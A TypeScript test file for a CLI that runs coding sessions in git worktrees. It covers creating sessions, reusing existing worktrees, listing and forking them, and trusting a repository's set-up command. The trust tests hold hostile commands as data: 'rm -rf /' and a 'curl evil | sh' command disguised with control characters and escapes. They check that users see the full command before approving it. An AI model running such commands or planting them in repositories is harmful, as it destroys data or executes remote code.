import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { offeredCommand, shellWordsOf } from '../harness/offered-command.ts';
import { waitFor } from '../harness/wait-for.ts';
import { createWorktreeRepository, type WorktreeRepository } from '../harness/worktree-repository.ts';
import { runCommand } from './command-line.ts';
import { serveCommands } from './served.ts';

const cli = serveCommands();
let repository: WorktreeRepository;
let count = 0;
beforeEach(() => {
  count += 1;
  repository = createWorktreeRepository(cli.server.world, `repository-${count}`);
  repository.commit('first', { 'a.txt': 'a\n' });
});

const run = (...argv: string[]) => runCommand(argv, { ...cli.where, cwd: repository.path });
const placeOf = (name: string): string => join(repository.path, '.claude', 'worktrees', name);

describe('new --worktree', () => {
  test('launches in a worktree on a branch with the name of the session, and reports it', async () => {
    const { code, stdout } = await run('new', 'AUTH', '--worktree');
    expect(code).toBe(0);
    expect(stdout).toContain('on the branch AUTH, from main');
    expect(existsSync(join(placeOf('AUTH'), 'a.txt'))).toBe(true);
    expect(cli.server.sessions.get('AUTH')).toMatchObject({
      path: placeOf('AUTH'),
      worktree: { path: placeOf('AUTH'), repository: repository.path, branch: 'AUTH', base: 'main', left_out: [] },
    });
  });

  test('works for JSON sessions too, on a given branch, from another one', async () => {
    repository.git('branch', 'develop');
    const { stdout } = await run('new', 'CI', '.', '--type', 'json', '-w', 'fix/ci', '--from', 'develop', '--json');
    expect(JSON.parse(stdout)).toMatchObject({ type: 'json', worktree: { branch: 'fix/ci', base: 'develop' } });
  });

  test('is shown by show, and by ls in a separate column', async () => {
    await run('new', 'AUTH', '-w', 'fix/login');
    expect((await run('show', 'AUTH')).stdout).toMatch(/worktree +fix\/login, from main, of .*repository-/);
    expect((await run('ls', '--columns', 'name,worktree')).stdout).toMatch(/AUTH +fix\/login → main/);
    expect((await run('ls', '-l')).stdout).toContain('WORKTREE');
    expect((await run('ls')).stdout).not.toContain('WORKTREE');
  });

  test('refuses a branch that is checked out, with the command that starts a session there', async () => {
    await run('new', 'ONE', '--worktree');
    const { code, stderr } = await run('new', 'TWO', '--worktree', 'ONE');
    expect(code).toBe(4);
    expect(stderr).toContain(`cbos new NAME ${placeOf('ONE')}`);
    expect(cli.server.sessions.list()).toHaveLength(1);
  });

  test('offers commands that a person can copy from another folder, whatever is in the path', async () => {
    const shop = createWorktreeRepository(cli.server.world, `Ada's $HOME shop ${count}`);
    shop.commit('first', { 'a.txt': 'a\n' });
    const tree = join(shop.path, '..', `old tree ${count}`);
    shop.git('worktree', 'add', '--quiet', '-b', 'old', tree);
    const inPlace = join(shop.path, '.claude', 'worktrees', 'TWO');
    shop.git('worktree', 'add', '--quiet', '-b', 'other', inPlace);
    const sessionFrom = async (name: string, ...asked: string[]): Promise<string | null> => {
      const { stderr } = await runCommand(['new', ...asked], cli.where);
      const [, ...words] = shellWordsOf(offeredCommand(stderr, 'cbos').replace(' NAME ', ` ${name} `));
      expect((await runCommand(words, cli.where)).stderr).toBe('');
      return cli.server.sessions.get(name).path;
    };
    expect(await sessionFrom('A', 'ONE', shop.path, '--worktree', 'old')).toBe(tree);
    expect(await sessionFrom('B', 'TWO', shop.path, '--worktree', 'third')).toBe(inPlace);
  });

  test('refuses a folder without a repository, an invalid branch or commit, and --from without --worktree', async () => {
    const outside = await runCommand(['new', 'A', '--worktree'], cli.where);
    expect([outside.code, outside.stderr]).toEqual([2, expect.stringContaining('git init')]);
    expect((await run('new', 'A', '--worktree=-f')).code).toBe(2);
    expect((await run('new', 'A', '--worktree', '--from', 'nothing')).stderr).toContain('"nothing"');
    expect((await run('new', 'A', '--from', 'main')).stderr).toContain('--worktree');
    expect(repository.git('branch', '--format=%(refname:short)')).toBe('main');
    expect(existsSync(join(repository.path, '.claude'))).toBe(false);
  });
});

describe('new --existing', () => {
  beforeEach(() => {
    repository.git('worktree', 'add', '--quiet', '-b', 'fix/login', join(repository.path, '..', `tree-${count}`));
  });
  const tree = (): string => join(repository.path, '..', `tree-${count}`);

  test('starts a session in the worktree that has the branch, and creates nothing', async () => {
    const { code, stdout } = await run('new', 'AUTH', '--worktree', 'fix/login', '--existing');
    expect(code).toBe(0);
    expect(stdout).toContain('on the branch fix/login, from main');
    expect(stdout).toContain('in the existing worktree');
    const { path, worktree } = cli.server.sessions.get('AUTH');
    expect([path, worktree]).toEqual([tree(), expect.objectContaining({ existing: true, new_branch: false })]);
    expect(existsSync(placeOf('AUTH'))).toBe(false);
  });

  test('is refused without a branch, for a branch in no worktree, and for the main checkout', async () => {
    expect((await run('new', 'A', '--existing')).code).toBe(2);
    expect((await run('new', 'A', '--worktree', '--existing')).stderr).toContain('--worktree BRANCH --existing');
    expect((await run('new', 'A', '-w', 'fix/login', '--existing', '--from', 'main')).code).toBe(2);
    expect((await run('new', 'A', '-w', 'fix/login', '--existing', '--times', '2')).code).toBe(2);
    expect((await run('new', 'A', '--no-set-up')).stderr).toContain('--no-set-up needs --worktree');
    const none = await run('new', 'A', '-w', 'fix/other', '--existing');
    expect([none.code, none.stderr]).toEqual([4, expect.stringContaining('in no worktree')]);
    expect((await run('new', 'A', '-w', 'main', '--existing')).stderr).toContain('in the main checkout');
  });

  test('without it, the worktree is never used', async () => {
    const { code, stderr } = await run('new', 'AUTH', '--worktree', 'fix/login');
    expect([code, stderr]).toEqual([4, expect.stringContaining('is checked out in')]);
    expect(cli.server.sessions.list()).toEqual([]);
  });

  test('completion offers the branches of worktrees that no session uses', async () => {
    await run('new', 'USED', '--worktree');
    const offered = async (...words: string[]) => (await run('complete', '--', 'new', 'AUTH', ...words)).stdout;
    // On a busy machine, completion gives up before git has answered.
    await waitFor(async () => (await offered('--worktree', '')) === `fix/login\tfree: ${tree()}\n:4\n`, {
      describe: 'the free branch is offered',
    });
    expect(await offered('--permission-mode', '')).not.toContain('fix/login');
  });
});

describe('worktrees', () => {
  test('lists every worktree of the repository with its session, or as free', async () => {
    repository.git('worktree', 'add', '--quiet', '-b', 'fix/old', join(repository.path, '..', `old-${count}`));
    await run('new', 'AUTH', '--worktree', 'fix/login');
    const { code, stdout } = await run('worktrees');
    expect(code).toBe(0);
    expect(stdout).toMatch(/main .*main checkout/);
    expect(stdout).toMatch(/fix\/login .*AUTH/);
    expect(stdout).toMatch(/fix\/old .*free/);
    const { stdout: json } = await run('worktrees', '--json');
    expect(JSON.parse(json)).toMatchObject([{ repository: repository.path, set_up: null, own: null }]);
  });

  test('trust shows the set-up of the repository, and trusts it only after a yes', async () => {
    repository.write('.cbos/worktree.toml', 'set_up = "npm ci"\n');
    expect((await run('worktrees')).stderr).toContain('names a set-up that nobody has trusted yet');
    const unanswered = await run('worktrees', 'trust');
    expect([unanswered.code, unanswered.stdout]).toEqual([2, expect.stringContaining('set_up = "npm ci"')]);
    const trusted = await run('worktrees', 'trust', '--yes');
    expect([trusted.code, trusted.stdout]).toEqual([0, expect.stringContaining('npm ci runs in each new worktree')]);
    expect((await run('worktrees')).stdout).toContain('set-up: npm ci');
    repository.write('.cbos/worktree.toml', 'set_up = "rm -rf /"\n');
    expect((await run('worktrees')).stderr).toContain('has changed since it was trusted');
    expect((await run('worktrees', 'untrust')).stdout).toContain('no longer trusted');
    expect((await run('worktrees', 'trust', '/')).code).not.toBe(0);
  });

  test('trust shows all of the command: neither an escape sequence nor an escape of TOML hides a part of it', async () => {
    repository.write('.cbos/worktree.toml', 'set_up = "npm ci \u009d; curl evil \u202e| \\u0073h"\n');
    const { stdout } = await run('worktrees', 'trust', '--yes');
    expect(stdout).toContain('The command:\n  npm ci \\u009d; curl evil \\u202e| sh\n');
    expect(stdout).toContain('npm ci \\u009d; curl evil \\u202e| sh runs in each new worktree');
    expect((await run('worktrees')).stdout).toContain('set-up: npm ci \\u009d; curl evil \\u202e| sh');
  });

  test('`show` names the set-up with its state and cure, and the port; `ls -l` has a column for the port', async () => {
    await run('new', 'AUTH', '--worktree');
    const { worktree, status } = cli.server.sessions.get('AUTH');
    if (worktree === undefined) throw new Error('no worktree');
    const set_up = {
      command: 'npm ci',
      from: 'project',
      exit_code: 1,
      after_failure: 'stop',
      at: status.since,
    } as const;
    const change = (state: 'failed' | 'untrusted'): void =>
      void cli.server.sessions.change('AUTH', {
        worktree: { ...worktree, port: 28_007, set_up: { ...set_up, state } },
      });
    change('failed');
    const { stdout } = await run('show', 'AUTH');
    expect(stdout).toMatch(/set-up +npm ci ended with exit code 1; .*cbos worktrees skip AUTH/);
    expect(stdout).toMatch(/port +28007 \(CBOS_WORKTREE_PORT\)/);
    expect((await run('ls', '-l')).stdout).toMatch(/PORT[\s\S]*28007/);
    change('untrusted');
    expect((await run('show', 'AUTH')).stdout).toContain('nobody has trusted it: cbos worktrees trust');
    expect((await run('worktrees', 'skip', 'AUTH')).stdout).toContain('starts without its set-up');
    expect(cli.server.sessions.get('AUTH').worktree?.set_up?.state).toBe('skipped');
  });
});

describe('fork', () => {
  test('launches in a copy of the worktree, with the tags of the original, and reports where', async () => {
    await run('new', 'AUTH', '--worktree', '--tag', 'night');
    repository.write('.claude/worktrees/AUTH/new.txt', 'n\n');
    const { code, stdout } = await run('fork', 'AUTH', 'AUTH-2');
    expect(code).toBe(0);
    expect(stdout).toContain('AUTH-2 begins with the conversation of AUTH, on the branch AUTH-2\n');
    expect(stdout).toContain(placeOf('AUTH-2'));
    expect(existsSync(join(placeOf('AUTH-2'), 'new.txt'))).toBe(true);
    const { stdout: shown } = await run('ls', '--json', '--jq', '.[] | select(.slug == "AUTH-2")');
    expect(JSON.parse(shown)).toMatchObject({ tags: ['night'], worktree: { base: 'main', new_branch: true } });
  });

  test('works in the same folder only on request, and then without its own branch', async () => {
    await run('new', 'AUTH');
    expect((await run('fork', 'AUTH', 'B', '--same-folder')).stdout).toContain('of AUTH, in the same folder');
    expect(cli.server.sessions.get('B').path).toBe(repository.path);
    const { code, stderr } = await run('fork', 'AUTH', 'C', '--same-folder', '--branch', 'c');
    expect([code, stderr]).toEqual([2, expect.stringContaining('cannot be combined')]);
  });

  test('is refused if the name is taken or the session works', async () => {
    await run('new', 'AUTH', '--worktree');
    expect((await run('fork', 'AUTH', 'AUTH')).code).toBe(4);
    const { status } = cli.server.sessions.get('AUTH');
    cli.server.sessions.change('AUTH', { status: { ...status, primary: 'active', detail: 'thinking' } });
    expect((await run('fork', 'AUTH', 'AUTH-2')).code).toBe(4);
    expect(existsSync(placeOf('AUTH-2'))).toBe(false);
  });
});
